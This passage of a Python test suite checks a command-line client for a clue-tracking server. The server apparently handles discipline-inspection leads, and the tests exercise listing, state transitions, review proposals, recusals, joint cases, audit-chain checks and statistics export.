    r2 = c.ctl(w.G2.member, "clue", "submit", "--file", "-", "--request-id", m.group(1), check=0,
               input=json.dumps(refused))
    assert r2.stdout.splitlines()[0] == r.stdout.splitlines()[0], (r.stdout, r2.stdout)
    assert _count(c, w.G2.member) == before + 6
    shutil.rmtree(d)


def test_list_filters_and_pages(c):
    w = c.w
    x = w.X1
    made = [c.submit(x.member, title=f"列表{i}", subject=("Boss王" if i % 2 else "李四"),
                     source=("AUDIT" if i < 2 else "INSPECTION_TOUR")) for i in range(5)]
    ids = [m["id"] for m in made]
    c.ctl(x.leader, "clue", "move", str(ids[0]), "--to", "PRELIMINARY_CHECK", "--version", "1",
          "--reason", "初核", check=0)

    r = c.ctl(x.leader, "clue", "list", "--page-size", "2", check=0)
    lines = r.stdout.splitlines()
    assert lines[0].split() == ["ID", "NUMBER", "STATE", "SUBJECT", "TITLE", "OWNER", "DEADLINE"]
    assert [int(ln.split()[0]) for ln in lines[1:]] == ids[::-1][:2], "newest first"
    m = re.fullmatch(r"More results: add --page-token (\S+) \(or --all for every page\)\.\n", r.stderr)
    assert m, r.stderr
    r = c.ctl(x.leader, "clue", "list", "--page-size", "2", "--page-token", m.group(1), check=0)
    assert [int(ln.split()[0]) for ln in r.stdout.splitlines()[1:]] == ids[::-1][2:4]

    every = c.json(x.leader, "clue", "list", "--all", "--page-size", "2")
    assert [cl["id"] for cl in every["clues"]] == ids[::-1] and every["next_page_token"] == ""
    r = c.ctl(x.leader, "clue", "list", "--all", "--page-size", "1", check=0)
    assert len(r.stdout.splitlines()) == 6 and r.stderr == ""
    one = c.json(x.leader, "clue", "list", "--page-size", "1")
    assert len(one["clues"]) == 1 and one["next_page_token"]

    def listed(*args):
        return [cl["id"] for cl in c.json(x.leader, "clue", "list", "--all", *args)["clues"]]

    assert listed("--state", "preliminary_check") == [ids[0]]
    assert listed("--state", "ACCEPTED", "--state", "PRELIMINARY_CHECK") == ids[::-1]
    assert listed("--state", "FILED") == []
    assert listed("--source", "AUDIT") == ids[1::-1]
    assert listed("--subject", "boss") == [ids[3], ids[1]]
    assert listed("--owner-unit", str(x.id)) == ids[::-1]
    assert listed("--owner-unit", str(w.G1.id)) == []
    assert listed("--overdue") == []
    # Dates: a day's bounds in local time; RFC 3339 instants, with a zone or Z.
    today = time.strftime("%Y-%m-%d")
    assert listed("--created-from", today) == ids[::-1]
    assert listed("--created-to", today) == ids[::-1], "a date as upper bound takes in the whole day"
    assert listed("--created-to", "2000-01-01") == []
    assert listed("--created-from", "2999-01-01T00:00:00Z") == []
    pivot = made[2]["created_at_ms"]
    stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(pivot // 1000)) + ".%03dZ" % (pivot % 1000)
    assert listed("--created-from", stamp) == ids[:1:-1]
    assert listed("--created-to", stamp) == ids[1::-1]
    shifted = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(pivot // 1000 + 8 * 3600)) + ".%03d+08:00" % (pivot % 1000)
    assert listed("--created-from", shifted) == ids[:1:-1]
    r = c.ctl(x.leader, "clue", "list", "--page-token", "garbage", check=1)
    assert r.stderr.startswith("INVALID_ARGUMENT") and "page_token" in r.stderr
    r = c.ctl(w.G3.member, "clue", "list", "--owner-unit", str(x.id), check=0)
    assert r.stdout == "ID  NUMBER  STATE  SUBJECT  TITLE  OWNER  DEADLINE\n(no clues)\n", r.stdout


def _move(c, user, cid, to, version, *extra, check=0):
    return c.ctl(user, "clue", "move", str(cid), "--to", to, "--version", str(version),
                 "--reason", f"理由：{to}", *extra, check=check)


def test_move_review_history(c):
    w = c.w
    cid = c.submit(w.G1.member)["id"]
    r = _move(c, w.G1.leader, cid, "PRELIMINARY_CHECK", 1)
    assert r.stdout == "moved to PRELIMINARY_CHECK (version 2)\n", r.stdout
    # Stale version: ABORTED, exit 1, nothing changed.
    r = _move(c, w.G1.leader, cid, "CLOSED", 1, "--finding", "f", check=1)
    assert r.stderr.startswith("ABORTED: ") and "version 2" in r.stderr, r.stderr
    assert r.stdout == ""
    r = _move(c, w.G1.leader, cid, "FILED", 7, check=1)
    assert r.stderr.startswith("ABORTED: ")
    # Illegal move: FAILED_PRECONDITION naming the state; a member may not move.
    r = _move(c, w.G1.leader, cid, "TRANSFERRED_TO_JUDICIAL", 2, "--receiving-organ", "o", check=1)
    assert r.stderr.startswith("FAILED_PRECONDITION: ") and "PRELIMINARY_CHECK" in r.stderr, r.stderr
    r = _move(c, w.G1.member, cid, "CLOSED", 2, "--finding", "f", check=1)
    assert r.stderr.startswith("PERMISSION_DENIED"), r.stderr
    r = _move(c, w.G1.leader, cid, "CLOSED", 2, check=1)
    assert r.stderr.startswith("INVALID_ARGUMENT: ") and "details.finding" in r.stderr, r.stderr

    # Filing is proposed, listed for the liaison room, and approved there.
    r = _move(c, w.G1.leader, cid, "FILED", 2)
    m = re.fullmatch(r"proposal #(\d+) pending review by unit R1\n", r.stdout)
    assert m, r.stdout
    pid = m.group(1)
    lines = c.ctl(w.R1.leader, "clue", "proposals", "--to-review", check=0).stdout.splitlines()
    assert lines[0].split() == ["ID", "CLUE", "FROM", "TO", "STATUS", "RAISED", "BY", "REVIEWER", "CREATED",
                                "OUTCOME", "REASON"]
    row = [ln for ln in lines[1:] if ln.startswith(f"#{pid} ")]
    assert row and row[0].split()[1:5] == [str(cid), "PRELIMINARY_CHECK", "FILED", "PENDING"], lines
    # Raised by the G1 leader of unit G1, reviewed by R1: names for people, not ids.
    assert row[0].split()[5:8] == [w.G1.leader.name, "(G1)", "R1"], row
    props = c.json(w.G1.member, "clue", "proposals", "--raised", "--clue", str(cid))["proposals"]
    assert [p["id"] for p in props] == [int(pid)] and props[0]["reviewer_unit_id"] == w.R1.id
    assert (props[0]["proposer_user_id"], props[0]["proposer_user_name"], props[0]["proposer_unit_code"],
            props[0]["reviewer_unit_code"], props[0]["reviewer_unit_name"]) == \
        (w.G1.leader.id, w.G1.leader.name, "G1", "R1", "room R1"), props[0]
    assert c.json(w.G1.member, "clue", "proposals", "--to-review", "--clue", str(cid))["proposals"] == []
    assert "(no proposals)" in c.ctl(w.G3.leader, "clue", "proposals", "--clue", str(cid), check=0).stdout
    r = c.ctl(w.G1.leader, "clue", "review", pid, "--approve", check=1)
    assert r.stderr.startswith("PERMISSION_DENIED"), r.stderr
    r = c.ctl(w.R1.leader, "clue", "review", pid, "--approve", "--comment", "同意立案", check=0)
    assert r.stdout == f"proposal #{pid} approved; clue {cid} moved to FILED (version 3)\n", r.stdout
    decided = c.json(w.G1.member, "clue", "proposals", "--all", "--clue", str(cid))["proposals"]
    assert decided[0]["status"] == "PROPOSAL_STATUS_APPROVED" and decided[0]["review_comment"] == "同意立案"
    assert c.json(w.G1.member, "clue", "proposals", "--clue", str(cid))["proposals"] == []

    # Transfer proposed and rejected: the clue stays.
    r = _move(c, w.G1.leader, cid, "TRANSFERRED_TO_JUDICIAL", 3, "--receiving-organ", "市人民检察院")
    pid2 = re.fullmatch(r"proposal #(\d+) pending review by unit R1\n", r.stdout).group(1)
    # The reviewer sees the organ it is asked to approve; a proposal without one says "-".
    lines = c.ctl(w.R1.leader, "clue", "proposals", "--to-review", "--all", "--clue", str(cid), check=0).stdout
    row = [ln for ln in lines.splitlines() if ln.startswith(f"#{pid2} ")]
    assert row and "receiving organ: 市人民检察院" in row[0], lines
    row = [ln for ln in lines.splitlines() if ln.startswith(f"#{pid} ")]
    assert row and "receiving organ" not in row[0] and " - " in row[0], lines
    doc = c.json(w.R1.leader, "clue", "review", pid2, "--reject", "--comment", "证据不足")
    assert doc["proposal"]["status"] == "PROPOSAL_STATUS_REJECTED" and UUID4.match(doc["request_id"])
    assert doc["clue"]["state"] == "CLUE_STATE_FILED" and doc["clue"]["version"] == 3

    doc = c.json(w.G1.leader, "clue", "move", str(cid), "--to", "CLOSED", "--version", "3", "--reason", "结案",
                 "--sanction-kind", "党内警告", "--persons-disciplined", "1")
    assert doc["pending"] is False and doc["clue"]["state"] == "CLUE_STATE_CLOSED" and doc["clue"]["version"] == 4
    assert UUID4.match(doc["request_id"])

    hist = c.json(w.G1.member, "clue", "history", str(cid))["events"]
    assert [e["action"] for e in hist] == ["clue.submit", "clue.move", "proposal.create", "proposal.approve",
                                           "proposal.create", "proposal.reject", "clue.move"]
    lines = c.ctl(w.G1.member, "clue", "history", str(cid), check=0).stdout.splitlines()
    assert lines[0].split() == ["SEQ", "TIME", "ACTION", "FROM", "TO", "USER", "UNIT", "REASON"]
    seqs = [int(ln.split()[0]) for ln in lines[1:]]
    assert seqs == sorted(seqs) and len(seqs) == 7
    assert lines[1].split()[3:5] == ["clue.submit", "-"] and lines[-1].split()[4:6] == ["FILED", "CLOSED"]
    # People read names: the submitter's user name and unit code; --json keeps the ids beside them.
    assert lines[1].split()[6:8] == [w.G1.member.name, "G1"], lines[1]
    assert lines[-1].split()[6:8] == [w.G1.leader.name, "G1"], lines[-1]
    assert (hist[0]["actor_user_id"], hist[0]["actor_user_name"]) == (w.G1.member.id, w.G1.member.name)
    assert (hist[0]["actor_unit_id"], hist[0]["actor_unit_code"], hist[0]["actor_unit_name"]) == \
        (w.G1.id, "G1", "group G1")
    assert "理由：CLOSED" not in lines[-1] and "结案" in lines[-1]
    r = c.ctl(w.G2.member, "clue", "history", str(cid), check=1)
    assert r.stderr.startswith("NOT_FOUND")


def test_move_request_id_retry(c):
    w = c.w
    cid = c.submit(w.G2.member)["id"]
    key = harness.new_request_id()
    for _ in range(2):
        r = _move(c, w.G2.leader, cid, "PRELIMINARY_CHECK", 1, "--request-id", key)
        assert r.stdout == "moved to PRELIMINARY_CHECK (version 2)\n", r.stdout
    assert c.json(w.G2.member, "clue", "get", str(cid))["version"] == 2


def test_room_clue_names_its_reviewer(c):
    w = c.w
    cid = c.submit(w.R1.member)["id"]
    _move(c, w.R1.leader, cid, "PRELIMINARY_CHECK", 1)
    r = _move(c, w.R1.leader, cid, "FILED", 2, check=1)
    assert "details.reviewer_unit_id" in r.stderr, r.stderr
    r = _move(c, w.R1.leader, cid, "FILED", 2, "--reviewer-unit", str(w.R2.id))
    assert r.stdout.endswith("pending review by unit R2\n"), r.stdout
    pid = r.stdout.split()[1][1:]
    r = c.ctl(w.R2.leader, "clue", "review", pid, "--approve", check=0)
    assert r.stdout == f"proposal #{pid} approved\n", r.stdout  # R2 no longer sees R1's clue
    assert c.json(w.R1.member, "clue", "get", str(cid))["state"] == "CLUE_STATE_FILED"


# ---- methods other branches are adding: skipped while the server answers UNIMPLEMENTED --------


def test_handover(c):
    w = c.w
    cid = c.submit(w.G1.member)["id"]
    r = requires(c.ctl(w.G1.leader, "clue", "handover", str(cid), "--to-unit", str(w.G2.id), "--version", "1",
                       "--reason", "属于其他组管辖"), "ClueService.HandOver")
    assert r.returncode == 0, r.stderr
    got = c.json(w.G2.member, "clue", "get", str(cid))
    assert got["owner_unit_id"] == w.G2.id
    # The new owner for people: its code and name (the ids stay in --json).
    m = re.fullmatch(rf"clue {cid} handed over to {re.escape(w.G2.code)} {re.escape(got['owner_unit_name'])}"
                     rf" \(version (\d+)\)\n", r.stdout)
    assert m, r.stdout
    r = c.ctl(w.G1.member, "clue", "get", str(cid), check=1)
    assert r.stderr.startswith("NOT_FOUND"), r.stderr
    stale = str(int(m.group(1)) + 5)  # any version but the current one
    r = c.ctl(w.G2.leader, "clue", "handover", str(cid), "--to-unit", str(w.G1.id), "--version", stale,
              "--reason", "r", check=1)
    assert r.stderr.startswith("ABORTED"), r.stderr
    doc = c.json(w.G2.leader, "clue", "handover", str(cid), "--to-unit", str(w.G3.id), "--version", m.group(1),
                 "--reason", "再移交")
    assert doc["owner_unit_id"] == w.G3.id and UUID4.match(doc["request_id"])


def test_notes(c):
    w = c.w
    cid = c.submit(w.G3.member)["id"]
    r = requires(c.ctl(w.G3.member, "clue", "note", str(cid), "--kind", "evidence_summary", "--text", "调取银行流水"),
                 "ClueService.AddNote")
    assert r.returncode == 0, r.stderr
    assert re.fullmatch(rf"note \d+ added to clue {cid}\n", r.stdout), r.stdout
    minutes = "问题会商记录\n第一项：同意初核\n第二项：两周内报告"
    r = c.ctl(w.G3.leader, "clue", "note", str(cid), "--kind", "MEETING_MINUTES", "--text-file", "-",
              check=0, input=minutes)
    doc = c.json(w.G3.leader, "clue", "note", str(cid), "--kind", "OTHER", "--text", "补充")
    assert doc["kind"] == "NOTE_KIND_OTHER" and doc["clue_id"] == cid and UUID4.match(doc["request_id"])
    assert (doc["author_user_id"], doc["author_user_name"], doc["author_unit_id"], doc["author_unit_code"]) == \
        (w.G3.leader.id, w.G3.leader.name, w.G3.id, "G3"), doc
    r = requires(c.ctl(w.G3.member, "clue", "notes", str(cid)), "ClueService.ListNotes")
    assert r.returncode == 0, r.stderr
    out = r.stdout
    assert "EVIDENCE_SUMMARY" in out and "MEETING_MINUTES" in out and "    调取银行流水\n" in out
    assert "    第一项：同意初核\n    第二项：两周内报告\n" in out, out
    assert re.search(rf"EVIDENCE_SUMMARY  .*  {re.escape(w.G3.member.name)} \(G3\)\n", out), out
    notes = c.json(w.G3.member, "clue", "notes", str(cid))["notes"]
    assert sorted(n["text"] for n in notes) == sorted(["调取银行流水", minutes, "补充"])
    r = c.ctl(w.G1.member, "clue", "note", str(cid), "--kind", "OTHER", "--text", "x", check=1)
    assert r.stderr.startswith("NOT_FOUND"), r.stderr
    # Past a page (50 notes): stderr says so and where the next starts; --after gives the rest.
    for i in range(52):
        c.ctl(w.G3.member, "clue", "note", str(cid), "--kind", "OTHER", "--text", f"第{i}条", check=0)
    r = c.ctl(w.G3.member, "clue", "notes", str(cid), check=0)
    ids = [int(x) for x in re.findall(r"^note (\d+) ", r.stdout, re.M)]
    assert len(ids) == 50 and r.stderr == f"More notes: add --after {ids[-1]}.\n", (len(ids), r.stderr)
    r = c.ctl(w.G3.member, "clue", "notes", str(cid), "--after", str(ids[-1]), check=0)
    rest = [int(x) for x in re.findall(r"^note (\d+) ", r.stdout, re.M)]
    assert len(rest) == 55 - 50 and rest[0] > ids[-1] and r.stderr == "", (rest, r.stderr)


def test_handlers_and_recusal(c):
    """clue assign, unassign, recuse, recusals and list --mine (issue 14): human and --json
    output, a request id by default, and the refusals' exit codes."""
    w = c.w
    cid = c.submit(w.G1.member)["id"]
    h = w.R2.member
    r = requires(c.ctl(w.G1.leader, "clue", "assign", str(cid), "--user", str(h.id), "--reason", "派员参与初核"),
                 "ClueService.AssignHandler")
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith(f"clue {cid} has 1 handler:\n  {h.name} (user {h.id}, R2), since "), r.stdout
    assert cid in [x["id"] for x in c.json(h, "clue", "list", "--mine")["clues"]]
    assert c.json(w.G1.leader, "clue", "list", "--mine").get("clues", []) == []
    out = c.ctl(h, "clue", "get", str(cid), check=0).stdout
    assert "Handlers:" in out and h.name in out, out
    out = c.ctl(w.R2.leader, "clue", "assignments", check=0).stdout
    assert re.search(rf"^clue {cid} \(owner G1\): {re.escape(h.name)} \(user {h.id}, R2\), since ", out, re.M), out
    doc = c.json(w.R2.leader, "clue", "assignments", "--user", str(h.id))
    assert [(x["clue_id"], x["handler"]["user_id"]) for x in doc["assignments"]] == [(cid, h.id)], doc
    r = c.ctl(w.G1.member, "clue", "assign", str(cid), "--user", str(w.X1.member.id), check=1)
    assert r.stderr.startswith("PERMISSION_DENIED"), r.stderr
    r = c.ctl(w.G1.leader, "clue", "assign", str(cid), check=2)  # --user is required
    doc = c.json(w.G1.leader, "clue", "unassign", str(cid), "--user", str(h.id))
    assert doc["id"] == cid and not doc.get("handlers") and UUID4.match(doc["request_id"])
    r = c.ctl(h, "clue", "get", str(cid), check=1)
    assert r.stderr.startswith("NOT_FOUND"), r.stderr
    # Recusal: one's own, then a leader's record for a member; listed for leaders, not members.
    r = c.ctl(w.G1.member, "clue", "recuse", str(cid), "--reason", "与被反映人系同学", check=0)
    assert re.fullmatch(rf"recusal #\d+: {re.escape(w.G1.member.name)} \(user {w.G1.member.id}, G1\) recused from"
                        rf" clue {cid}, .* by themselves: 与被反映人系同学\n", r.stdout), r.stdout
    r = c.ctl(w.G1.member, "clue", "get", str(cid), check=1)
    assert r.stderr.startswith("NOT_FOUND"), r.stderr
    doc = c.json(w.R1.leader, "clue", "recuse", str(cid), "--user", str(w.R1.member.id), "--reason", "亲属")
    assert doc["user_id"] == w.R1.member.id and doc["recorded_by"] == w.R1.leader.id and UUID4.match(doc["request_id"])
    lst = c.json(w.G1.leader, "clue", "recusals", "--clue", str(cid))["recusals"]
    assert sorted(x["user_id"] for x in lst) == sorted([w.G1.member.id, w.R1.member.id])
    assert "recused from clue" in c.ctl(w.auditor, "clue", "recusals", check=0).stdout
    r = c.ctl(w.G1.member, "clue", "recusals", check=1)
    assert r.stderr.startswith("PERMISSION_DENIED"), r.stderr
    r = c.ctl(w.G1.leader, "clue", "assign", str(cid), "--user", str(w.R1.member.id), check=1)
    assert r.stderr.startswith("FAILED_PRECONDITION") and "recused" in r.stderr, r.stderr


def test_extend(c):
    w = c.w
    cl = c.submit(w.G3.member)
    cid = cl["id"]
    r = requires(c.ctl(w.G3.member, "clue", "extend", str(cid), "--days", "5", "--version", "1", "--reason", "r"),
                 "ClueService.ExtendDeadline")
    assert r.returncode == 1 and r.stderr.startswith("PERMISSION_DENIED"), r.stderr
    r = c.ctl(w.G3.leader, "clue", "extend", str(cid), "--days", "15", "--version", "1", "--reason", "情况复杂",
              check=0)
    m = re.fullmatch(rf"deadline of clue {cid} extended to (\d{{4}}-\d\d-\d\d) \(version (\d+)\)\n", r.stdout)
    assert m, r.stdout
    got = c.json(w.G3.member, "clue", "get", str(cid))
    assert got["deadline_extended"] and got["stage_deadline_ms"] > cl["stage_deadline_ms"]
    assert time.strftime("%Y-%m-%d", time.localtime(got["stage_deadline_ms"] / 1000)) == m.group(1)
    assert "extended" in c.ctl(w.G3.member, "clue", "get", str(cid), check=0).stdout
    r = c.ctl(w.G3.leader, "clue", "extend", str(cid), "--days", "5", "--version", m.group(2),
              "--reason", "again", check=1)
    assert r.stderr.startswith("FAILED_PRECONDITION"), r.stderr


def _case_line(out):
    """(case id, lead unit code, {participant unit codes}, {clue ids}) from a case command's line."""
    m = re.fullmatch(r"joint case #(\d+) (?:created|updated); lead unit (\w+), participant units: ([\w, ]+); "
                     r"clues: ([\d, ]+|none)\n", out)
    assert m, out
    ids = lambda s: set() if s == "none" else {int(x) for x in s.split(", ")}  # noqa: E731
    codes = set() if m.group(3) == "none" else set(m.group(3).split(", "))
    return int(m.group(1)), m.group(2), codes, ids(m.group(4))


def test_joint_case(c):
    w = c.w
    a = c.submit(w.G1.member, title="联合办案甲")["id"]
    b = c.submit(w.G1.member, title="联合办案乙")["id"]
    r = requires(c.ctl(w.R1.leader, "case", "create", "--title", "某系统窝案", "--basis", "线索关联",
                       "--participant", str(w.G1.id), "--participant", str(w.X1.id), "--clue", str(a)),
                 "CaseService.CreateJointCase")
    assert r.returncode == 0, r.stderr
    case_id, lead, parts, clues = _case_line(r.stdout)
    assert (lead, parts, clues) == ("R1", {"G1", "X1"}, {a})
    r = c.ctl(w.R1.leader, "case", "add-clue", str(case_id), "--clue", str(b), "--reason", "同一对象", check=0)
    assert _case_line(r.stdout)[3] == {a, b}
    doc = c.json(w.R1.leader, "case", "show", str(case_id))
    assert doc["lead_unit_id"] == w.R1.id and {x["clue_id"] for x in doc["clues"]} == {a, b}
    # --json keeps every id beside the names people read.
    assert (doc["lead_unit_code"], doc["lead_unit_name"]) == ("R1", "room R1"), doc
    assert dict(zip(doc["participant_unit_ids"], doc["participant_unit_codes"])) == {w.G1.id: "G1", w.X1.id: "X1"}
    assert (doc["created_by"], doc["created_by_name"]) == (w.R1.leader.id, w.R1.leader.name), doc
    assert {(x["owner_unit_id"], x["owner_unit_code"]) for x in doc["clues"]} == {(w.G1.id, "G1")}, doc
    out = c.ctl(w.G1.member, "case", "show", str(case_id), check=0).stdout
    assert out.startswith(f"Joint case #{case_id}: 某系统窝案\n") and "联合办案乙" in out, out
    assert "\nLead unit:    R1 room R1\n" in out, out
    assert re.search(r"\nParticipants: (G1, X1|X1, G1)\n", out), out
    assert re.search(rf"\nCreated: .* by {re.escape(w.R1.leader.name)}\n", out), out
    assert re.search(rf"\n\s*{b}\s+\S+\s+\S+\s+G1\s", out), out
    assert c.json(w.G1.member, "clue", "get", str(b))["joint_case_id"] == case_id
    r = c.ctl(w.R1.leader, "case", "add-participant", str(case_id), "--unit", str(w.G2.id), check=0)
    assert _case_line(r.stdout)[2] == {"G1", "X1", "G2"}
    r = c.ctl(w.R1.leader, "case", "remove-participant", str(case_id), "--unit", str(w.G2.id), "--reason", "no longer involved", check=0)
    assert _case_line(r.stdout)[2] == {"G1", "X1"}
    r = c.ctl(w.R1.leader, "case", "remove-clue", str(case_id), "--clue", str(b), "--reason", "separate matter", check=0)
    assert _case_line(r.stdout)[3] == {a}
    lines = c.ctl(w.R1.leader, "case", "list", check=0).stdout.splitlines()
    assert lines[0].split() == ["ID", "TITLE", "LEAD", "UNIT", "PARTICIPANTS", "CLUES", "CREATED"]
    assert any(ln.split()[:4] in ([str(case_id), "某系统窝案", "R1", "G1,"], [str(case_id), "某系统窝案", "R1", "X1,"])
               for ln in lines[1:]), lines
    assert case_id in [x["id"] for x in c.json(w.R1.member, "case", "list")["cases"]]
    r = c.ctl(w.G1.leader, "case", "create", "--title", "t", "--basis", "b", check=1)
    assert r.stderr.startswith("PERMISSION_DENIED"), r.stderr
    # The basis is optional, as in the API.
    r = c.ctl(w.R1.leader, "case", "create", "--title", "无依据案", "--participant", str(w.G2.id), check=0)
    assert _case_line(r.stdout)[1:3] == ("R1", {"G2"}), r.stdout


def test_audit_list_and_verify(c):
    w = c.w
    cid = c.submit(w.G2.member, title="审计查询")["id"]
    r = requires(c.ctl(w.auditor, "audit", "list", "--subject-type", "clue", "--subject-id", str(cid)),
                 "AuditService.ListAuditEvents")
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert lines[0].split() == ["SEQ", "TIME", "ACTION", "SUBJECT", "FROM", "TO", "USER", "UNIT", "REASON"]
    # Its help names exactly the subject types the server takes.
    r = c.ctl(w.auditor, "audit", "list", "--help", check=0)
    assert "clue, case, rectification, unit or user" in r.stdout, r.stdout
    for t in ("clue", "case", "rectification", "unit", "user"):
        c.ctl(w.auditor, "audit", "list", "--subject-type", t, "--page-size", "1", check=0)
    assert lines[1].split()[3:5] == ["clue.submit", "clue"] and lines[1].split()[5] == f"#{cid}", lines
    assert lines[1].split()[8:10] == [w.G2.member.name, "G2"], lines[1]
    # clued bootstrap's events have no actor: USER and UNIT show "-", not 0.
    boot = c.ctl(w.auditor, "audit", "list", "--until-seq", "3", check=0).stdout.splitlines()
    assert len(boot) == 4 and all(ln.split()[8:] == ["-", "-", "bootstrap"] for ln in boot[1:]), boot
    every = c.json(w.auditor, "audit", "list", "--all", "--page-size", "3")
    seqs = [e["seq"] for e in every["events"]]
    assert len(seqs) > 10 and len(set(seqs)) == len(seqs) and every["next_page_token"] == ""
    page = c.ctl(w.auditor, "audit", "list", "--page-size", "3", check=0)
    assert len(page.stdout.splitlines()) == 4 and "--page-token" in page.stderr
    top = sorted(seqs)
    after = c.json(w.auditor, "audit", "list", "--all", "--after-seq", str(top[-3]))["events"]
    assert sorted(e["seq"] for e in after) == top[-2:]
    mine = c.json(w.auditor, "audit", "list", "--all", "--action", "clue.submit", "--actor", str(w.G2.member.id))
    assert mine["events"] and all(e["action"] == "clue.submit" and e["actor_user_id"] == w.G2.member.id
                                  and e["actor_user_name"] == w.G2.member.name
                                  and e["actor_unit_code"] == "G2" and e["actor_unit_id"] == w.G2.id
                                  for e in mine["events"])

    r = requires(c.ctl(w.auditor, "audit", "verify"), "AuditService.VerifyAuditChain")
    assert r.returncode == 0, r.stderr
    assert re.fullmatch(r"OK: \d+ events in \d+ chains verified\n", r.stdout), r.stdout
    r = c.ctl(w.auditor, "audit", "verify", "--subject-type", "clue", "--subject-id", str(cid), check=0)
    assert r.stdout == "OK: 1 event in 1 chain verified\n", r.stdout
    doc = c.json(w.auditor, "audit", "verify")
    assert doc["ok"] is True and doc["broken"] is None


def test_audit_watch(c):
    w = c.w
    probe = requires(c.ctl(w.auditor, "--timeout", "3", "audit", "watch", "--after-seq", "0"),
                     "AuditService.WatchEvents")
    assert probe.returncode == 0, probe.stderr
    last = int(re.search(r"last seq (\d+)", probe.stderr).group(1))
    # clued bootstrap's events name no actor ("by user 0 (unit 0)" before).
    first = probe.stdout.splitlines()[0]
    assert first.endswith("  bootstrap") and " by " not in first and "(unit" not in first, first
    env = dict(os.environ, CLUED_SERVER=c.srv.addr, CLUED_TOKEN=w.auditor.token, ASAN_OPTIONS="detect_leaks=1")
    p = subprocess.Popen([harness.CLUECTL, "--json", "audit", "watch", "--after-seq", str(last),
                          "--subject-type", "clue"], env=env, text=True,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        time.sleep(0.5)
        cid = c.submit(w.G1.member, title="实时事件")["id"]

        def next_of_cid():
            # The probe may have stopped short of the log's end on a slow machine: earlier
            # clue events can come first, each after `last` and in order.
            prev = last
            for _ in range(10000):
                e = json.loads(p.stdout.readline())
                assert e["subject_type"] == "clue" and e["seq"] > prev, (e, prev)
                prev = e["seq"]
                if e["subject_id"] == cid:
                    return e
            raise AssertionError("no event of the new clue")

        ev = next_of_cid()
        assert ev["action"] == "clue.submit" and ev["seq"] > last, ev
        assert (ev["actor_user_name"], ev["actor_unit_code"], ev["actor_unit_name"]) == \
            (w.G1.member.name, "G1", "group G1"), ev
        _move(c, w.G1.leader, cid, "PRELIMINARY_CHECK", 1)
        ev2 = json.loads(p.stdout.readline())
        assert ev2["action"] == "clue.move" and ev2["subject_id"] == cid and ev2["seq"] > ev["seq"], ev2
        p.send_signal(signal.SIGINT)
        out, err = p.communicate(timeout=30)
    finally:
        if p.poll() is None:
            p.kill()
    harness._assert_clean(err)
    assert p.returncode == 0 and out == "", (p.returncode, out, err)
    assert f"last seq {ev2['seq']}; resume with: cluectl audit watch --after-seq {ev2['seq']}" in err, err
    # Resuming from the last seq seen misses nothing and repeats nothing.
    _move(c, w.G1.leader, cid, "CLOSED", 2, "--finding", "不属实")
    r = c.ctl(w.auditor, "--timeout", "2", "audit", "watch", "--after-seq", str(ev2["seq"]),
              "--subject-type", "clue", "--subject-id", str(cid), check=0)
    lines = r.stdout.splitlines()
    assert len(lines) == 1 and "clue.move" in lines[0] and "PRELIMINARY_CHECK -> CLOSED" in lines[0], lines
    assert lines[0].endswith(f"by {w.G1.leader.name} (G1 group G1)") or \
        f"by {w.G1.leader.name} (G1 group G1)  " in lines[0], lines
    # A quiet watch lives on clued's heartbeats (asked for every second: three seconds of
    # nothing would end it), and ends at --timeout with exit status 0: clued answered it.
    r = c.ctl(w.auditor, "--timeout", "5", "audit", "watch", "--heartbeat", "1", "--after-seq", str(ev2["seq"]),
              "--subject-type", "clue", "--subject-id", "999999999", check=0)  # no such clue: nothing comes
    assert r.stdout == "" and "lost" not in r.stderr, r.stderr


def test_stats(c):
    w = c.w
    today = time.strftime("%Y-%m-%d")
    r = requires(c.ctl(w.auditor, "stats", "--from", today, "--to", today), "StatsService.GetStatistics")
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith(f"Period: {today} to {today}\n\nUNIT"), r.stdout
    assert "Units that disposed of no clue in the period:" in r.stdout
    doc = c.json(w.auditor, "stats", "--from", today, "--to", today)
    by_code = {u["unit_code"]: u for u in doc["units"]}
    assert by_code["G1"]["received"] >= 1
    env = dict(os.environ, CLUED_SERVER=c.srv.addr, CLUED_TOKEN=w.auditor.token)
    p = subprocess.run([harness.CLUECTL, "stats", "--from", today, "--to", today, "--csv"], env=env,
                       capture_output=True, timeout=60)
    harness._assert_clean(p.stderr.decode())
    assert p.returncode == 0, p.stderr
    raw = p.stdout.decode()  # as written: no newline translation
    assert raw.endswith("\r\n"), "RFC 4180 line ends"
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert rows and {"unit_id", "unit_code", "unit_name", "received", "zero_disposal"} <= set(rows[0])
    g1 = [x for x in rows if x["unit_code"] == "G1"][0]
    assert int(g1["received"]) == by_code["G1"]["received"] and g1["unit_name"] == by_code["G1"]["unit_name"]
    only = c.json(w.auditor, "stats", "--from", today, "--to", today, "--unit", str(w.G1.id))
    assert [u["unit_id"] for u in only["units"]] == [w.G1.id]
    r = c.ctl(w.auditor, "stats", "--from", today, "--to", today, "--csv", "--cases", check=0)
    assert r.stdout.startswith("case_id,title,clues,closed,transferred_to_judicial,overdue_now\n")
    # Without --from and --to: the current calendar year, with what today's figures count.
    year = time.strftime("%Y")
    r = c.ctl(w.auditor, "stats", check=0)
    assert r.returncode == 0 and r.stdout.startswith(f"Period: {year}-01-01 to {year}-12-31\n"), r.stdout + r.stderr
    whole = {u["unit_code"]: u for u in c.json(w.auditor, "stats")["units"]}
    assert whole["G1"]["received"] >= by_code["G1"]["received"]
    # One bound alone keeps its own year: --from next year runs to its end, --to last year
    # starts at its beginning (not "the period ends before it begins").
    nxt, prev = int(year) + 1, int(year) - 1
    r = c.ctl(w.auditor, "stats", "--from", f"{nxt}-03-01", check=0)
    assert r.returncode == 0 and r.stdout.startswith(f"Period: {nxt}-03-01 to {nxt}-12-31\n"), r.stdout + r.stderr
    r = c.ctl(w.auditor, "stats", "--to", f"{prev}-06-30", check=0)
    assert r.returncode == 0 and r.stdout.startswith(f"Period: {prev}-01-01 to {prev}-06-30\n"), r.stdout + r.stderr


def _poke(c, sql, *args):
    """Run sql as the superuser in clued's database: rows written before a server rule."""
    db = harness.Postgres.get().connect(re.search(r"postgresql:///([^?]+)", c.srv.database_url).group(1))
    try:
